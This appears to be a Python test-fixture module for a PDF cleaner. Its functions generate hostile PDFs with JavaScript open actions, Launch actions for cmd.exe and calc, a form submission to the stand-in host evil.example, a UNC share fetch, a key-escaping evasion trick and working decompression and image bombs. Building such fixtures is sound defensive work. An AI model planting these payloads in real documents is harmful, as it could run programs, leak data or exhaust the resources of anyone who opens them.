"""PDFs that wish us ill, made on the spot: each function gives the bytes of one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Object


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert('x')")


def paper(pages: int = 2) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=(595, 842))
        pdf.pages[-1].Contents = pdf.make_stream(b"BT (Trang %d) Tj ET" % number)
    return pdf


def written(pdf: pikepdf.Pdf, **how: Any) -> bytes:
    file = io.BytesIO()
    pdf.save(file, **how)
    return file.getvalue()


def plain(pages: int = 2) -> bytes:
    return written(paper(pages))


def word_document() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return file.getvalue()


def with_javascript() -> bytes:
    pdf = paper()
    pdf.Root.OpenAction = pdf.make_indirect(script())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["start", pdf.make_indirect(script())])))
    return written(pdf)


def with_javascript_spelt_otherwise() -> bytes:
    """Write a key with an escape: /Open#41ction is /OpenAction, and both are 13 bytes long."""
    pdf = paper()
    pdf.Root["/OpenABCction"] = script()
    return written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
        b"/OpenABCction", b"/Open#41ction"
    )


def with_everything_active() -> bytes:
    """Build a paper with each kind of active content, some of it hidden deep or chained."""
    pdf = paper()
    launch = Dictionary(S=Name.Launch, F="cmd.exe")
    hidden = pdf.make_indirect(
        Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([launch, script()]))
    )
    pdf.Root.OpenAction = pdf.make_indirect(script())
    pdf.Root.AA = Dictionary(WC=script())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))
    pdf.attachments["evil.exe"] = b"MZ" * 1000
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    page = pdf.pages[0]
    page.AA = Dictionary(O=script())
    page.Annots = Array([pdf.make_indirect(note) for note in notes(pdf, hidden)])
    pdf.Root.AcroForm.Fields.append(page.Annots[-1])
    pdf.pages[1].Contents = pdf.make_stream(b"", F="//10.0.0.9/share/page.txt")
    return written(pdf)


def notes(pdf: pikepdf.Pdf, hidden: Object) -> list[Dictionary]:
    def note(subtype: str, **more: Any) -> Dictionary:
        corners = Array([0, 0, 9, 9])
        return Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=corners, **more)

    attached = Dictionary(Type=Name.Filespec, F="a", EF=Dictionary(F=pdf.make_stream(b"zz")))
    return [
        note("/Link", A=Dictionary(S=Name.Launch, F="calc")),
        note("/Link", A=Dictionary(S=Name.SubmitForm, F="http://evil.example")),
        note("/Link", A=Dictionary(S=Name("/NewInPdf3"))),
        note("/Link", A=Dictionary(S=Name.URI, URI="javascript:alert(1)")),
        note("/Link", A=Dictionary(S=Name.URI, URI="https://dienbien.gov.vn")),
        note("/Link", A=hidden),
        note("/FileAttachment", FS=attached),
        note("/RichMedia", RichMediaContent=Dictionary()),
        note("/Widget", AA=Dictionary(K=script()), FT=Name.Tx, T="name"),
    ]


def encrypted(user: str) -> bytes:
    return written(paper(), encryption=pikepdf.Encryption(owner="chủ", user=user))


def truncated() -> bytes:
    whole = plain(40)
    return whole[: len(whole) * 2 // 3]


def truncated_after_its_first_page() -> bytes:
    """Cut a linearised file: it has an end mark of its own close to its beginning."""
    whole = written(paper(400), linearize=True)
    return whole[: len(whole) // 2]


def with_a_hole() -> bytes:
    """Take bytes out of the middle: the end is there, the table of objects points nowhere."""
    whole = written(paper(40), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return whole[: len(whole) // 4] + whole[len(whole) // 2 :]


def without_pages() -> bytes:
    return written(pikepdf.new())


def double_flate_bomb(size: int = 128 << 20) -> bytes:
    """Deflate zeros twice: less than a kilobyte that unfolds to 128 MiB."""
    pdf = paper(1)
    packed = zlib.compress(deflated_zeros(size), 9)
    pdf.pages[0].Contents = pdf.make_stream(packed, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    return written(pdf, compress_streams=False, recompress_flate=False)


def flate_bomb(size: int = 128 << 20) -> bytes:
    pdf = paper(1)
    pdf.pages[0].Contents = pdf.make_stream(deflated_zeros(size), Filter=Name.FlateDecode)
    return written(pdf, compress_streams=False, recompress_flate=False)


def deflated_zeros(size: int) -> bytes:
    packer, block = zlib.compressobj(9), bytes(1 << 20)
    return b"".join([packer.compress(block) for _ in range(size >> 20)]) + packer.flush()


def image_bomb() -> bytes:
    pdf = paper(1)
    pdf.pages[0].Resources = Dictionary(
        XObject=Dictionary(
            I=pdf.make_stream(
                b"",
                Type=Name.XObject,
                Subtype=Name.Image,
                Width=60_000,
                Height=60_000,
                BitsPerComponent=1,
                ColorSpace=Name.DeviceGray,
            )
        )
    )
    return written(pdf)


def too_many_pages() -> bytes:
    """Name one page 6,000 times; the tree itself is small."""
    pdf = paper(1)
    pdf.Root.Pages.Kids = Array([pdf.pages[0].obj] * 6_000)
    pdf.Root.Pages.Count = 6_000
    return written(pdf)


def object_stream_bomb(size: int = 900 << 20) -> bytes:
    """Hide the objects in a stream that any parser must unfold before it can look at one."""
    head = b"4 0 null"
    packer, block = zlib.compressobj(1), b" " * (1 << 20)
    packed = packer.compress(head)
    packed += b"".join([packer.compress(block) for _ in range(size >> 20)]) + packer.flush()
    file, places = io.BytesIO(), {}

    def put(number: int, content: bytes) -> None:
        places[number] = file.tell()
        file.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))

    file.write(b"%PDF-1.7\n")
    put(1, b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>")
    put(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    put(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
    put(5, stream % (len(packed), packed))
    rows = [(0, 0, 65535), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in [*rows, (1, file.tell(), 0)])
    start = file.tell()
    entry = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream"
    put(6, entry % (len(table), table))
    file.write(b"startxref\n%d\n%%%%EOF" % start)
    return file.getvalue()


def signed(*, active: bool) -> bytes:
    """Write the dictionary of a signature; whether it verifies is not the cleaner's question."""
    pdf = paper()
    signature = Dictionary(
        Type=Name.Sig,
        Filter=Name("/Adobe.PPKLite"),
        ByteRange=Array([0, 100, 200, 300]),
        Contents=pikepdf.String(b"\x30\x82" * 40),
    )
    field = Dictionary(FT=Name.Sig, T="S1", V=pdf.make_indirect(signature))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)
    if active:
        pdf.Root.OpenAction = pdf.make_indirect(script())
    return written(pdf)


def with_bookmarks() -> bytes:
    pdf = paper(5)
    with pdf.open_outline() as outline:
        part = pikepdf.OutlineItem("Phần I. Kết quả", 0)
        part.children.append(pikepdf.OutlineItem("1. Thu ngân sách", 2))
        outline.root += [part, pikepdf.OutlineItem("Phần II. Nhiệm vụ", 4)]
    return written(pdf)
